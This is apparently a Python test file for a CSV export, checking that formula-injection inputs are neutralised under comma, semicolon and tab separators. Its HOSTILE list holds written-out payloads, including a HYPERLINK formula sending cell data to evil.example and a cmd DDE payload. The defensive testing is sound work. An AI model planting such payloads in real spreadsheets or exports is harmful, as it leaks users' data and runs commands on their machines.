"""CSV exports never hold a cell a spreadsheet would run, whichever separator it splits at."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st

from server.export import COLUMNS, safe_cell, to_csv

from .client import Organizer, Phone
from .conftest import RunningServer

STORY = 'x;=HYPERLINK("http://evil.example/?"&A1);y'
FORMULA_STARTS = ("=", "+", "-", "@")
SEPARATORS = (",", ";", "\t")
HOSTILE = [STORY, "a\t=cmd|' /C calc'!A0", "1,+2", "@SUM(1)", "x\n=1", 'x";=1', "-5"]


def record(
    answer: str, *, prompt: str = "Tell us a story", title: str = "Workshop", value: Any = None
) -> dict[str, Any]:
    """One export record as `records` makes it, with the free-text cells chosen."""
    return {
        "session_id": "s-1",
        "session_title": title,
        "exported_at": "2026-01-02T03:04:05Z",
        "question_no": 4,
        "question_id": "q4",
        "question_kind": "open_text",
        "prompt": prompt,
        "participant": "P-001",
        "segment": "",
        "answer": answer,
        "answer_value": answer if value is None else value,
        "answered_at": "2026-01-02T03:04:00Z",
        "hidden": False,
        "filtered": False,
    }


def rows(body: bytes, separator: str, lines: Iterable[str] | None = None) -> list[list[str]]:
    """The CSV as a spreadsheet set to `separator` reads it (Python's reader standing in)."""
    text = body.decode("utf-8").removeprefix("\ufeff")
    source = io.StringIO(text, newline="") if lines is None else lines
    return list(csv.reader(source, delimiter=separator, strict=False))


def formula_cells(body: bytes) -> list[tuple[str, str]]:
    """Every (separator, cell) that starts a formula, under each way of reading the lines."""
    text = body.decode("utf-8").removeprefix("\ufeff")
    found = []
    for separator in SEPARATORS:
        for lines in (None, text.splitlines(keepends=True), text.splitlines()):
            found += [
                (separator, cell)
                for row in rows(body, separator, lines)
                for cell in row
                if cell.startswith(FORMULA_STARTS)
            ]
    return found


def without_guards(out: str, original: str) -> str:
    """`out` less the `'` it gained over `original`; each must come right before a formula
    start (an original `'` may sit there too, so the two are aligned, not pattern-matched)."""
    kept: list[str] = []
    for i, char in enumerate(out):
        if len(kept) < len(original) and char == original[len(kept)]:
            kept.append(char)
        else:
            assert char == "'" and out[i + 1 : i + 2] in (*FORMULA_STARTS, "\t", "\r"), (i, out)
    return "".join(kept)


def test_hostile_answers_start_no_formula_under_any_separator() -> None:
    recs = [record(text) for text in HOSTILE] + [record("5", value=-5)]
    body = to_csv(recs)
    assert formula_cells(body) == []
    data = rows(body, ",")[1:]
    assert [row[COLUMNS.index("answer")] for row in data] == [
        'x;\'=HYPERLINK("http://evil.example/?"&A1);y',
        "a\t'=cmd|' /C calc'!A0",
        "1,'+2",
        "'@SUM(1)",
        "x\n'=1",
        "x\";'=1",
        "'-5",
        "5",
    ]
    assert data[-1][COLUMNS.index("answer_value")] == "'-5"  # a bare negative number too


def test_safe_cell_changes_nothing_but_guards() -> None:
    assert safe_cell("Goals are clear: -2; Metrics: 3") == "Goals are clear: -2; Metrics: 3"
    assert safe_cell("P-001") == "P-001"
    assert safe_cell("\t=1") == "'\t'=1"
    assert safe_cell("x\u2028+1") == "x\u2028'+1"


# Built from a list, not st.text(alphabet=...): that merges the two alphabets into one, so the
# few characters that matter would hardly ever come up among all of unicode.
FREE_TEXT = st.lists(
    st.one_of(st.sampled_from(list(",;\t\n\r\"=+-@'ab ")), st.characters(codec="utf-8")),
    max_size=40,
).map("".join)


@settings(max_examples=300, deadline=None)
@given(answer=FREE_TEXT, prompt=FREE_TEXT, title=FREE_TEXT)
def test_no_cell_starts_a_formula_and_the_answer_keeps_its_text(
    answer: str, prompt: str, title: str
) -> None:
    body = to_csv([record(answer, prompt=prompt, title=title)])
    assert formula_cells(body) == []
    header, row = rows(body, ",")
    assert header == list(COLUMNS)
    cell = row[COLUMNS.index("answer")]
    assert without_guards(cell, answer) == answer


async def test_real_export_of_a_hostile_story(server: RunningServer) -> None:
    async with Organizer(server) as org:
        session = await org.create(
            questions=[{"kind": "open_text", "prompt": "Tell us; -a story", "max_length": 200}]
        )
        question = session["questions"][0]["id"]
        phone = Phone(server)
        await phone.join(session["code"])
        answered = await phone.answer_http(question, STORY)
        assert answered.status_code == 201, answered.text
        r = await org.http.get(f"/api/sessions/{session['id']}/export?format=csv")
        await phone.close()
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    assert formula_cells(r.content) == []
    _, row = rows(r.content, ",")
    assert row[COLUMNS.index("answer")] == 'x;\'=HYPERLINK("http://evil.example/?"&A1);y'
    assert row[COLUMNS.index("prompt")] == "Tell us; -a story"
